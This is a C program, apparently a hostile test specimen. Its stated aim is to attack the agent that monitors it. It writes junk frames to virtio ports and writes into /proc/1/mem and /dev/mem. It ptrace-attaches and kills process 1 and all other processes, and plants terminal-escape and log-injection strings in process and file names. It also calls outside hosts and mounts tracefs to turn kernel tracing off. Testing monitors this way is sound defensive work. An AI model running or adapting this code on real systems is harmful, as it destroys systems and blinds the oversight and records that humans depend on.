/* Attacks the agent that watches it: its channel, its processes, its kernel's records, and
 * whoever reads what it tells. Prints what came of each attempt. */
#include "specimen.h"
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sysmacros.h>
#include <signal.h>

static void told(const char *what, int success)
{
	printf("%s: %s\n", what, success ? "YES" : "no");
	fflush(stdout);
}

static int call(const char *address, int port)
{
	struct sockaddr_storage at = place(address, port);
	int tcp = dial(&at);
	if (tcp < 0)
		return 0;
	say(tcp, "\x02\x04 still here \x04");
	wait_ms(700);
	close(tcp);
	return 1;
}

/* Frames without end, of nothing, of nonsense, and one that reads like the sample's end. */
static const char frames[] = "\xff\xff\xff\xff" "\0\0\0\0" "\x05\0\0\0" "nonsense"
			     "\x0e\0\0\0\0\0\0\0\0\0\0\0\x07\x04\0\0\0\0";

static int write_to_ports(void)
{
	char line[256];
	int major_number = 0, written = 0;
	FILE *devices = fopen("/proc/devices", "r");
	while (devices && fgets(line, sizeof line, devices))
		if (strstr(line, "virtio"))
			major_number = atoi(line);
	for (int minor_number = 0; minor_number < 16; minor_number++) {
		mknod("/tmp/port", S_IFCHR | 0600, makedev(major_number, minor_number));
		int port = open("/tmp/port", O_RDWR | O_NONBLOCK);
		if (port >= 0 && write(port, frames, sizeof frames) > 0)
			written++;
		if (port >= 0)
			close(port);
		unlink("/tmp/port");
	}
	return written;
}

static int write_to(const char *path, off_t at)
{
	int file = open(path, O_RDWR);
	int done = file >= 0 && pwrite(file, frames, sizeof frames, at) > 0;
	if (file >= 0)
		close(file);
	return done;
}

/* What would spoil the screen or the records of a careless reader. */
static void odd_words(void)
{
	static const char *const odd = "/tmp/\x1b[2J\x1b]0;x\x07\n\"}\xff\xfe";
	static char longest[120000];
	prctl(PR_SET_NAME, "\x1b[31m\n\"},\xff", 0, 0, 0);
	put(odd, 0, 0755, "#!/bin/true\n", 12);
	memset(longest, '\x1b', sizeof longest - 1);
	pid_t child = fork();
	if (child == 0) {
		execl(odd, "\x1b[2J\n\xff", longest, NULL);
		_exit(0);
	}
	waitpid(child, NULL, 0);
	unlink(odd);
}

int main(void)
{
	told("ports", write_to_ports());
	told("memory of process 1", write_to("/proc/1/mem", 4096));
	told("memory of the machine", write_to("/dev/mem", 32 << 20));
	told("tracing process 1", ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0);
	kill(1, SIGKILL);
	kill(-1, SIGKILL);
	told("process 1 is gone", kill(1, 0) != 0);
	odd_words();
	for (int number = 0; number < 20000; number++)
		close(open("/tmp/nothing/there", O_RDONLY));
	told("called before", call("198.51.100.63", 4447));
	mkdir("/tmp/traces", 0700);
	mount("none", "/tmp/traces", "tracefs", 0, NULL);
	int off = open("/tmp/traces/tracing_on", O_WRONLY);
	if (off >= 0 && write(off, "0", 1) != 1)
		told("switched off", 0);
	told("called after", call("198.51.100.64", 4448));
	return 0;
}
